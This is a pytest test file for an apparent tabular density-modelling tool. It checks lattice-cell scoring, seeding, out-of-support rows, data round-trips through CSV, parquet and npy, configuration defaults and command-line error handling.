def test_a_row_on_a_lattice_is_scored_as_its_cell(counted, tmp_path):
    do("sample", n=200, output=tmp_path / "x.csv")
    do("score", input=tmp_path / "x.csv", output=tmp_path / "y.csv")
    scored = pd.read_csv(tmp_path / "y.csv")
    codes = scored.assign(pet=scored.pet.map({"cat": 0, "dog": 1, "newt": 2}))[
        ["height", "count", "pet", "wild"]
    ]
    x = torch.tensor(codes.to_numpy(float))
    normal = torch.distributions.Normal(torch.tensor(1.0, dtype=torch.float64), 0.6)
    cells = (normal.cdf(x[:, 1:] + 1) - normal.cdf(x[:, 1:])).log().sum(1) + normal.log_prob(x[:, 0])
    likely = cells > cells.median()
    error = (torch.tensor(scored.log_prob.to_numpy()) - cells)[likely]
    assert error.abs().mean() < 0.2
    assert -0.1 < error.mean() < 0.05  # a lower bound, and a tight one
    assert (counted.density.log_prob(x) - cells)[likely].abs().mean() > 1  # which the corner's density isn't
    assert 0.4 < scored.log_prob_quantile.mean() < 0.6  # validation examples are cells too


def test_scores_on_a_lattice_are_seeded(counted, tmp_path):
    given = table(tmp_path / "in.csv", "height,count,pet,wild\n1,2,cat,True\n")
    for name, seed in (("a", 0), ("b", 0), ("c", 1)):
        do("score", input=given, output=tmp_path / f"{name}.csv", seed=seed)
    a, b, c = ((tmp_path / f"{name}.csv").read_bytes() for name in "abc")
    assert a == b != c


def test_a_value_between_two_cells_corners_is_of_the_lower_ones_cell(counted, tmp_path):
    for name, count in (("a", "2"), ("b", "2.9")):
        given = table(tmp_path / "in.csv", f"height,count,pet,wild\n1,{count},cat,True\n")
        do("score", input=given, output=tmp_path / f"{name}.csv")
    a, b = (pd.read_csv(tmp_path / f"{name}.csv") for name in "ab")
    assert a.log_prob[0] == b.log_prob[0]
    assert b["count"][0] == 2.9


def test_a_row_outside_the_support_is_as_odd_as_can_be(counted, tmp_path, capsys):
    rows = "1,0,cat,0\n1,0,cat,2\n1,0,cat,-1\n1,-7,cat,1\n"
    given = table(tmp_path / "in.csv", "height,count,pet,wild\n" + rows)
    do("score", input=given, output=tmp_path / "out.csv")
    scored = pd.read_csv(tmp_path / "out.csv")
    assert np.isfinite(scored.log_prob).tolist() == [True, False, False, True]
    assert scored.log_prob[1] == -math.inf
    assert scored.log_prob_quantile.tolist()[1:3] == [0, 0]
    assert capsys.readouterr().err == ""


def test_a_model_that_only_draws_is_sampled_but_not_scored(counted, tmp_path):
    class Generator(Sampler):
        def sample(self, n, context=None, generator=None):
            return torch.rand(n, 4, generator=generator)

    counted.density = Generator()
    do("sample", n=4, output=tmp_path / "x.csv")
    assert pd.read_csv(tmp_path / "x.csv").pet.tolist() == ["cat"] * 4
    with pytest.raises(UserError, match="needs a model with a density"):
        do("score", input=tmp_path / "x.csv", output=tmp_path / "y.csv")


def test_a_table_of_ones_own_goes_in_and_comes_out(tmp_path):
    """Trained on, drawn and scored, each time by what a user types."""
    generator = np.random.default_rng(0)
    own = pd.DataFrame(
        {
            "id": np.arange(300),
            "height": generator.normal(size=300),
            "count": generator.integers(0, 9, 300),
            "pet": generator.choice(["cat", "dog"], 300),
            "pen": generator.choice(["a", "b"], 300),
            "age": 2**25 + generator.integers(0, 90_000, 300),
        }
    )
    own.to_csv(tmp_path / "own.csv", index=False)

    def call(program, *arguments):
        done = live(*arguments, cwd=tmp_path, program=program)
        assert done.status == 0, done.err

    run = f"{tmp_path}/run"
    data = ["dataset=table", f"dataset.path={tmp_path}/own.csv", "dataset.columns=[height,count,pet]"]
    data += ["dataset.context=[pen,age]", "dataset.categorical=dequantise"]
    small = ["runtime=cpu", "logger=csv", "model.layers=2", "model.width=8", "trainer.max_steps=5"]
    call("train", f"run_dir={run}", *data, *small)
    call("evaluate", "task=sample", f"run={run}", "n=20", f"output={tmp_path}/x.parquet")
    drawn = pd.read_parquet(tmp_path / "x.parquet")
    assert list(drawn.columns) == ["height", "count", "pet", "pen", "age"]
    assert drawn.dtypes.astype(str).tolist() == ["float64", "int64", "str", "str", "int64"]
    assert {*drawn.pet} <= {"cat", "dog"}
    assert {*zip(drawn.pen, drawn.age, strict=True)} <= {*zip(own.pen, own.age, strict=True)}
    for kind in ("csv", "npy"):  # which say the same
        do("sample", run=run, n=20, output=tmp_path / f"x.{kind}")
    pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "x.csv"), drawn)
    array = np.load(tmp_path / "x.npy")
    assert array.dtype.names == tuple(drawn.columns)
    assert [array.dtype[k].str for k in range(5)] == ["<f8", "<i8", "<U3", "<U1", "<i8"]
    assert (
        max(len(cell) for cell in pd.read_csv(tmp_path / "x.csv", dtype=str).height) < 15
    )  # single precision
    facts = json.loads(Path(run, "run.json").read_text())  # of a run from before its contexts had types
    for key in ("context_dtypes", "context_levels"):
        del facts["spec"][key]
    Path(run, "run.json").write_text(json.dumps(facts))
    do("sample", run=run, n=20, output=tmp_path / "old.csv")
    assert [*pd.read_csv(tmp_path / "old.csv")][3:] == ["pen=a", "pen=b", "age"]
    call("evaluate", "task=score", f"run={run}", f"input={tmp_path}/own.csv", f"output={tmp_path}/y.csv")
    scored = pd.read_csv(tmp_path / "y.csv")
    pd.testing.assert_frame_equal(scored[[*own.columns]], own)
    assert np.isfinite(scored.log_prob).all()


# Configuration


@pytest.mark.parametrize("task", [report, sample, score])
def test_yaml_lists_every_argument_and_its_default(task):
    common = yaml.safe_load((ROOT / "conf/evaluate.yaml").read_text())
    own = yaml.safe_load((ROOT / f"conf/task/{task.__name__}.yaml").read_text())
    assert own.pop("task") == task.__name__
    for key in ("defaults", "sweep", "evaluate_missing"):  # which are evaluate.py's own
        common.pop(key)
    given = {**common, **own}
    defaults = {name: p.default for name, p in inspect.signature(task).parameters.items()}
    assert given.keys() == defaults.keys()
    for name, default in defaults.items():
        missing = default is inspect.Parameter.empty
        assert given[name] == ("???" if missing else list(default) if default == () else default), name


def test_the_command_line(trained, tmp_path):
    def call(*arguments):
        return live(*arguments, cwd=tmp_path, program="evaluate")

    done = call("task=sample", f"run={trained}", "n=4", f"output={tmp_path}/x.csv")
    assert done.status == 0, done.err
    assert len(pd.read_csv(tmp_path / "x.csv")) == 4
    typo = call("task=sample", "rnu=latest", f"output={tmp_path}/y.csv")
    assert typo.status == 2
    assert typo.err.count("\n") == 1
    assert "did you mean run?" in typo.err
    listed = call("task=report", "--cfg", "job").out.splitlines()
    assert "points: 100000" in listed
    assert "n: 1000" not in listed  # keys are known only where they make sense


@pytest.mark.parametrize("number", [math.nan, math.inf])
def test_a_context_that_isnt_finite_is_refused(number):
    spec = Spec(("x",), (1,), ("a", "b"), (2,))
    with pytest.raises(UserError, match=r"context=\[(nan|inf), 1\.0\]: expected finite numbers"):
        typed_context([number, 1.0], spec)


def test_a_run_is_drawn_from_without_its_data(run, tmp_path):
    def elsewhere(config):
        config["dataset"] = {"_target_": "data.table.table", "path": str(tmp_path / "gone.csv")}

    edit(run / "config.yaml", elsewhere)
    do("sample", run=run, n=7, output=tmp_path / "x.csv")
    assert len(pd.read_csv(tmp_path / "x.csv")) == 7
    for task, output in (("report", tmp_path / "report"), ("score", tmp_path / "scored/s.csv")):
        options = {"input": tmp_path / "x.csv"} if task == "score" else {}
        with pytest.raises(UserError, match=r"gone\.csv: no such file"):
            do(task, run=run, output=output, **options)
        assert not (tmp_path / output.relative_to(tmp_path).parts[0]).exists()
